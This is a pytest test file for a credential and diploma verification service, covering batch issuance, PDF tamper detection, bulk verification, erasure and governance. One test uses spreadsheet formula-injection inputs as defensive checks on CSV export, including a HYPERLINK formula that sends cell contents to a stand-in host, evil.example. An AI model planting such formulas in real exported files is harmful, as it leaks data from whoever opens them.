"""Batch issuance, diploma PDFs (embedded bundle, tamper detection), bulk verification, erasure, admin."""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
import sqlalchemy as sa

from ledger.errors import AuthorizationError, NotFoundError
from portfolio_api.db import tables as t
from portfolio_api.services.credentials import IssueRequest
from tests.portfolio.helpers import PASSWORD, PNG, env, form  # noqa: F401
from verifier.pdf import ATTACHMENT_NAME, extract_bundle


def _wait_batch(staff, url: str) -> str:
    for _ in range(200):
        page = staff.get(url).text
        if 'data-status="done"' in page:
            return page
        time.sleep(0.05)
    raise AssertionError("batch did not finish")


def test_a_batch_csv_with_bad_rows_issues_nothing_and_a_good_one_issues_every_row_once(env):
    staff = env.browser("olymp")
    good = (
        "email,kind,title,date,description\n"
        "maria@example.org,olympiad,Победитель олимпиады,2026-03-01,\n"
        "petr@example.org,contest,Лауреат конкурса,2026-03-02,за проект\n"
    )
    bad = good + "nobody@example.org,olympiad,Призёр,2026-03-01,\nmaria@example.org,space-flight,Полёт,2026-03-01,\nonly,two\n"
    size = env.node.log.size
    r = form(staff, "/staff/batch", {"idem": "batch-form-0000"}, files={"file": ("list.csv", bad.encode(), "text/csv")})
    assert r.status_code == 400
    assert len(env.svc.credentials.issued_by("olymp")) == 0 and env.node.log.size == size  # refused whole: nothing issued
    r = form(staff, "/staff/batch", {"idem": "batch-form-0001"}, files={"file": ("list.csv", good.encode(), "text/csv")})
    assert r.status_code == 303, r.text
    page = _wait_batch(staff, r.headers["location"])
    assert "2/2" in page and page.count('class="ok"') == 2
    assert len(env.svc.credentials.issued_by("olymp")) == 2
    # The same form submitted again issues nothing new.
    size = env.node.log.size
    r2 = form(staff, "/staff/batch", {"idem": "batch-form-0001"}, files={"file": ("list.csv", good.encode(), "text/csv")})
    assert r2.headers["location"] == r.headers["location"]
    assert env.node.log.size == size


def _issue(env, who="maria", title="Победитель олимпиады по информатике"):
    email = {"maria": "maria@example.org", "petr": "petr@example.org"}[who]
    return env.svc.credentials.issue(env.users["olymp"], IssueRequest(email, "olympiad", title, "2026-03-01"))


def test_pdf_embeds_the_bundle_and_verifies_on_the_verify_page(env):
    c = _issue(env)
    maria = env.browser("maria")
    pdf = maria.get(f"/portfolio/credentials/{c.id}/pdf")
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")
    bundle = json.loads(extract_bundle(pdf.content))
    assert bundle["credential"]["credentialSubject"]["name"] == "Мария Иванова"
    r = form(env.browser(), "/verify", files={"file": ("diploma.pdf", pdf.content, "application/pdf")})
    assert r.status_code == 200, r.text
    assert "Проверка пройдена" in r.text and "Мария Иванова" in r.text
    # The PDF's text is set in DejaVu with Cyrillic.
    from pypdf import PdfReader

    text = PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    assert "Мария Иванова" in text and "Победитель олимпиады" in text


def test_tampered_pdf_is_shown_as_failed(env):
    c = _issue(env)
    pdf = env.browser("maria").get(f"/portfolio/credentials/{c.id}/pdf").content
    bundle = json.loads(extract_bundle(pdf))
    bundle["credential"]["credentialSubject"]["achievement"]["name"] = "Абсолютный победитель"
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf)))
    w._root_object.pop("/Names", None)  # drop the original attachment, embed the forged one
    w.add_attachment(ATTACHMENT_NAME, json.dumps(bundle).encode())
    out = io.BytesIO()
    w.write(out)
    r = form(env.browser(), "/verify", files={"file": ("diploma.pdf", out.getvalue(), "application/pdf")})
    assert r.status_code == 422
    assert "Проверка НЕ пройдена" in r.text and "документ изменён или никогда не выдавался" in r.text
    # A PDF with no bundle at all also fails, with the reason.
    r = form(env.browser(), "/verify", files={"file": ("x.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf")})
    assert r.status_code == 422 and "Проверка НЕ пройдена" in r.text


def test_bulk_verification_of_links_and_bundles_downloads_csv(env):
    c1, c2 = _issue(env, "maria"), _issue(env, "petr", "Призёр олимпиады")
    s1 = env.svc.portfolio.create_share(env.users["maria"], label="", items=None, days=5)
    s2 = env.svc.portfolio.create_share(env.users["petr"], label="", items=None, days=5)
    env.svc.portfolio.revoke_share(env.users["petr"], s2.id)
    bundle = env.browser("maria").get(f"/portfolio/credentials/{c1.id}/bundle").content
    links = f"http://testserver/s/{s1.token}\nhttp://testserver/s/{s2.token}\n"
    english = env.browser()
    english.cookies.set("edu_lang", "en")
    r = form(english, "/verify/bulk", {"links": links}, files=[("files", ("a.json", bundle, "application/json")), ("files", ("junk.bin", b"junk", "x"))])
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    by_source = {row["source"]: row for row in rows}
    assert by_source[f"http://testserver/s/{s1.token}"]["status"] == "verified"
    assert by_source[f"http://testserver/s/{s1.token}"]["applicant"] == "Мария Иванова"
    assert by_source[f"http://testserver/s/{s2.token}"]["status"] == "failed"
    assert by_source["a.json"]["status"] == "verified"
    assert by_source["junk.bin"]["status"] == "failed"
    assert c2.status == "verified"
    # In Russian (the default): Russian headers, statuses and reasons, ';' as Excel in a Russian locale expects.
    r = form(env.browser(), "/verify/bulk", {"links": links}, files=[("files", ("a.json", bundle, "application/json"))])
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=";"))
    by_source = {row["Источник"]: row for row in rows}
    assert by_source["a.json"]["Статус"] == "Подтверждено в реестре" and by_source[f"http://testserver/s/{s1.token}"]["Абитуриент"] == "Мария Иванова"
    assert "проверка по реестру пройдена" in by_source["a.json"]["Пояснения"]


def test_bulk_verification_csv_defuses_cells_that_would_start_a_spreadsheet_formula(env):
    evil = env.svc.accounts.create("evil@example.org", PASSWORD, "@SUM(1+1)*cmd", "student")
    c = env.svc.credentials.issue(env.users["olymp"], IssueRequest("evil@example.org", "olympiad", '=HYPERLINK("http://evil.example/?"&A1,"ok")',
                                                                   "2026-03-01"))
    assert c.title.startswith("=")
    share = env.svc.portfolio.create_share(evil, label="", items=None, days=5)
    links = f"http://testserver/s/{share.token}\n+1-2\n-5\n\t=1+1\n"
    english = env.browser()
    english.cookies.set("edu_lang", "en")
    r = form(english, "/verify/bulk", {"links": links})
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    (ok,) = [row for row in rows if row[0].endswith(share.token)]
    assert ok[1] == "'@SUM(1+1)*cmd" and ok[3] == "'" + c.title and ok[5] == "verified"  # the text survives, as text
    assert {row[0] for row in rows[1:]} >= {"'+1-2", "'-5", "'=1+1"}  # link lines are stripped, then defused


def test_erasing_a_person_shreds_their_data_and_everything_else_still_verifies(env):
    mine, theirs = _issue(env, "maria"), _issue(env, "petr", "Призёр олимпиады")
    maria = env.browser("maria")
    form(maria, "/portfolio/upload", {"kind": "diploma", "title": "Диплом", "issued_on": "2025-05-20"}, files={"file": ("a.png", PNG, "image/png")})
    with env.svc.ctx.engine.begin() as conn:
        before = conn.execute(sa.select(t.credentials.c.credential_enc).where(t.credentials.c.id == mine.id)).scalar()
    petr_bundle = env.browser("petr").get(f"/portfolio/credentials/{theirs.id}/bundle").content
    # issue-7 data: a discoverable profile, subscriptions with a queued notice, two follows (grant and share link)
    u, svc = env.users, env.svc
    svc.discovery.set_profile(u["maria"], discoverable=True, region="Москва", headline="Люблю астрофизику")
    assert [c.user_id for c in svc.discovery.search(u["uni"], "олимпиады")] == [u["maria"].id]
    svc.opportunities.subscribe(u["maria"], subject="физика", level="", region="", audience="pupils")
    svc.opportunities.subscribe(u["maria"], subject="", level="", region="москва", audience="pupils")
    from tests.portfolio.test_opportunities import draft

    svc.opportunities.publish(u["olymp"], draft())
    svc.follows.grant(u["maria"], "uni-1")
    share = svc.portfolio.create_share(u["maria"], label="ГУ", items=None, days=30)
    svc.follows.follow_by_share(u["school"], f"http://testserver/s/{share.token}")
    assert [p.name for _, p, _ in svc.follows.feed(u["uni"])] == ["Мария Иванова"]
    r = form(maria, "/account/delete", {"password": PASSWORD, "confirmed": "yes"})
    assert r.status_code == 303
    with env.svc.ctx.engine.begin() as conn:
        assert conn.execute(sa.select(t.profiles).where(t.profiles.c.user_id == u["maria"].id)).first() is None
        for word in ("астрофизику", "олимпиады", "москва"):  # nothing left in the full-text index either
            assert conn.execute(sa.text("SELECT count(*) FROM fts_profiles WHERE fts_profiles MATCH :q"), {"q": word}).scalar() == 0
        # erasure deletes her subscriptions, notices and follows (services/erasure.py), not only cancels them
        for table, column in ((t.subscriptions, t.subscriptions.c.user_id), (t.outbox, t.outbox.c.user_id), (t.follows, t.follows.c.student_id)):
            assert conn.execute(sa.select(sa.func.count()).select_from(table).where(column == u["maria"].id)).scalar() == 0, table.name
    assert svc.discovery.search(u["uni"], "") == [] and svc.discovery.search(u["uni"], "астрофизику") == []
    assert svc.follows.feed(u["uni"]) == [] and svc.follows.feed(u["school"]) == []
    assert "Мария" not in env.browser("uni").get("/opportunities/applicants").text
    svc.opportunities.publish(u["olymp"], draft(title="Ещё одна олимпиада по физике"))  # no new notice for her
    with env.svc.ctx.engine.begin() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(t.outbox).where(t.outbox.c.user_id == u["maria"].id)).scalar() == 0
    # The person's data key is gone: the old ciphertext cannot be read any more.
    with env.svc.ctx.engine.begin() as conn:
        assert conn.execute(sa.select(t.data_keys).where(t.data_keys.c.user_id == env.users["maria"].id)).first() is None
        with pytest.raises(NotFoundError):
            env.svc.accounts.decrypt_for(conn, env.users["maria"].id, "credential", before)
        row = conn.execute(sa.select(t.users).where(t.users.c.id == env.users["maria"].id)).one()
        assert row.email_enc is None and row.name_enc is None and row.email_index is None
        assert conn.execute(sa.select(t.uploads).where(t.uploads.c.owner_id == row.id)).first() is None  # rows deleted, not only emptied
    with pytest.raises(AuthorizationError):
        env.svc.accounts.authenticate("maria@example.org", PASSWORD, "1.2.3.4")
    # Everything else stays verifiable: the ledger status of her credential, Petr's bundle, the ledger audit.
    assert env.node.log.registry.status(mine.digest) == "valid"
    assert "Подтверждено в реестре" in env.browser().get(f"/c/{mine.digest}").text
    r = form(env.browser(), "/verify", files={"file": ("petr.json", petr_bundle, "application/json")})
    assert r.status_code == 200 and "Пётр Смирнов" in r.text
    issued = env.svc.credentials.issued_by("olymp")
    assert {name for _, name in issued} == {"—", "Пётр Смирнов"}
    from ledger.node.audit import audit

    result = audit(env.node.store, env.node.genesis)
    assert result.entries == env.node.log.size


def test_api_token_issues_for_its_institution_only_until_revoked(env):
    admin = env.browser("olymp_admin")
    r = form(admin, "/institution/tokens", {"label": "school information system"})
    assert r.status_code == 200
    token = r.text.split('id="new-token">')[1].split("<")[0]
    body = {"holder_email": "maria@example.org", "kind": "olympiad", "title": "Победитель", "achieved_on": "2026-01-01", "idempotency_key": "api-key-0001"}
    api = env.browser()
    r = api.post("/api/v1/institution/credentials", json=body, headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 200, r.text
    assert r.json()["status"] == "verified"
    assert env.node.log.registry.anchors[r.json()["digest"]].institution == "olymp"
    again = api.post("/api/v1/institution/credentials", json=body, headers={"Authorization": f"Bearer {token}"})
    assert again.json()["id"] == r.json()["id"]
    (tok,) = env.svc.admin.tokens(env.users["olymp_admin"])
    # another institution's admin cannot revoke it
    assert form(env.browser("uni"), f"/institution/tokens/{tok.id}/revoke").status_code == 404
    assert form(admin, f"/institution/tokens/{tok.id}/revoke").status_code == 303
    r = api.post("/api/v1/institution/credentials", json={**body, "idempotency_key": "api-key-0002"}, headers={"Authorization": f"Bearer {token}"})
    assert r.status_code == 403
    assert api.get("/api/v1/institution/credentials", headers={"Authorization": "Bearer edu_guess"}).status_code == 403


def test_network_admin_onboards_and_suspends_an_institution(env):
    net = env.browser("net")
    r = form(net, "/network/institutions", {"id": "lyceum-7", "name": "Лицей № 7", "type": "school", "admin_email": "admin@lyceum.example.org",
                                           "admin_password": PASSWORD})
    assert r.status_code == 303, r.text
    assert "lyceum-7" in env.node.log.registry.institutions
    assert (env.data / "keys" / "lyceum-7.signing.key").exists()
    lyceum_admin = env.svc.accounts.find_by_email("admin@lyceum.example.org")
    c = env.svc.credentials.issue(lyceum_admin, IssueRequest("petr@example.org", "school-certificate", "Аттестат", "2026-06-20"))
    assert c.status == "verified"
    r = form(net, "/network/institutions/lyceum-7/suspend", {"reason": "licence withdrawn"})
    assert r.status_code == 303
    with pytest.raises(AuthorizationError):
        env.svc.credentials.issue(lyceum_admin, IssueRequest("petr@example.org", "school-certificate", "Аттестат 2", "2026-06-20"))
    # credentials issued before the suspension keep verifying
    assert env.node.log.registry.status(c.digest) == "valid"
    key = env.node.log.registry.institutions["lyceum-7"].keys[0]
    assert key.valid_until is not None
    with env.svc.ctx.engine.begin() as conn:
        audit_actions = [r.action for r in conn.execute(sa.select(t.audit_log)).all()]
    assert "institution.onboard" in audit_actions and "institution.suspend" in audit_actions


def test_suspending_a_member_goes_on_the_ledger_where_every_node_and_verifier_sees_it(env):
    from ledger.model.entries import Statement, parse_entry
    from ledger.node.audit import audit

    before = env.svc.credentials.issue(env.users["school"], IssueRequest("maria@example.org", "school-certificate", "Аттестат", "2026-06-20"))
    log, reg = env.node.log, env.node.log.registry
    size = log.size
    net = env.browser("net")
    assert form(net, "/network/institutions/school-1/suspend", {"reason": "licence withdrawn"}).status_code == 303
    entries = [parse_entry(log.entry(i)) for i in range(size, log.size)]
    by_kind = {e.statement.kind: e.statement for e in entries}
    # a governance proposal by this node's member institution (the sequencer), and the institution's own key revoked (held here)
    assert by_kind["governance.propose"].institution == "olymp"
    assert by_kind["governance.propose"].body == {"proposal": "suspend-school-1", "action": "institution.suspend", "params": {"id": "school-1"}}
    assert by_kind["key.revoke"].institution == "school-1"
    assert reg.governance.proposals["suspend-school-1"].approvals == {"olymp"}
    assert all(k.valid_until is not None for k in reg.institutions["school-1"].keys)
    with pytest.raises(AuthorizationError):
        env.svc.credentials.issue(env.users["school"], IssueRequest("maria@example.org", "school-certificate", "Аттестат 2", "2026-06-20"))
    size = log.size
    assert form(net, "/network/institutions/school-1/suspend", {"reason": "licence withdrawn"}).status_code == 303
    assert log.size == size  # one vote per node, nothing twice
    assert "1/2" in net.get("/network/admin").text
    # another member's node approves: the quorum suspends it on the ledger, for every replay
    (res,) = env.svc.ctx.submit("uni-1", [Statement(env.node.network, "governance.approve", "uni-1", {"proposal": "suspend-school-1"})])
    assert reg.governance.proposals["suspend-school-1"].enacted_index == res.index
    assert "school-1" in reg.governance.suspended and "school-1" not in reg.members()
    assert "Приостановлена в реестре" in net.get("/network/admin").text
    assert reg.status(before.digest) == "valid"  # issued before: still verifies
    assert audit(env.node.store, env.node.genesis).entries == log.size  # an independent replay accepts the same log


def test_a_suspension_this_node_cannot_put_on_the_ledger_is_refused(env):
    net = env.browser("net")
    form(net, "/network/institutions", {"id": "lyceum-8", "name": "Лицей № 8", "type": "school", "admin_email": "admin@lyceum8.example.org",
                                        "admin_password": PASSWORD})
    del env.node.keys.signing["lyceum-8"]  # registered directly (no governance vote) and its key is elsewhere
    size = env.node.log.size
    assert form(net, "/network/institutions/lyceum-8/suspend", {"reason": "licence withdrawn"}).status_code == 409
    assert env.node.log.size == size
    assert not next(i for i in env.svc.admin.institutions() if i["id"] == "lyceum-8")["suspended"]


def test_every_staff_action_is_in_the_audit_log_with_who_and_when(env):
    c = _issue(env)
    env.svc.credentials.revoke(env.users["olymp"], c.id, "withdrawn")
    page = env.browser("olymp").get("/staff/audit").text
    assert "issue" in page and "revoke" in page and f"staff#{env.users['olymp'].id}" in page
    assert "withdrawn" in page


@pytest.mark.parametrize(
    "field, value",
    [("admin_password", "short"), ("admin_email", "not-an-address"), ("admin_email", "admin\x00@lyceum.example.org")],
)
def test_onboarding_with_a_bad_admin_field_writes_nothing_anywhere(env, field, value):
    net = env.browser("net")
    size = env.node.log.size
    fields = {"id": "lyceum-8", "name": "Лицей № 8", "type": "school", "admin_email": "admin8@lyceum.example.org", "admin_password": PASSWORD}
    r = form(net, "/network/institutions", {**fields, field: value})
    assert r.status_code == 400
    assert env.node.log.size == size and "lyceum-8" not in env.node.log.registry.institutions
    assert not (env.data / "keys" / "lyceum-8.signing.key").exists()
    # the corrected form then works: nothing was left half done
    assert form(net, "/network/institutions", fields).status_code == 303
    assert "lyceum-8" in env.node.log.registry.institutions


def test_the_verify_page_checks_the_issuers_proof_and_the_holder_by_e_mail(env):
    """What an admissions officer sees: the institution's Data Integrity proof checked by default, and with
    the applicant's e-mail, whether the diploma was issued to that person (the credential holds only a salted hash)."""
    c = _issue(env)
    pdf = env.browser("maria").get(f"/portfolio/credentials/{c.id}/pdf").content
    bundle = json.loads(extract_bundle(pdf))
    cred = bundle["credential"]
    assert cred["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022" and cred["issuer"]["id"].startswith("did:web:")
    assert "maria@example.org" not in json.dumps(cred) and cred["credentialSubject"]["identifier"][0]["identityType"] == "emailAddress"
    file = {"file": ("diploma.pdf", pdf, "application/pdf")}
    r = form(env.browser(), "/verify", {"holder_email": "Maria@Example.org"}, files=file)
    assert r.status_code == 200, r.text
    assert "документ выдан человеку с этим e-mail" in r.text and "электронная подпись организации" in r.text
    r = form(env.browser(), "/verify", {"holder_email": "petr@example.org"}, files=file)
    assert r.status_code == 422 and "выдан другому человеку" in r.text
    r = form(env.browser(), "/verify", {"holder_email": "not an address"}, files=file)
    assert r.status_code == 400
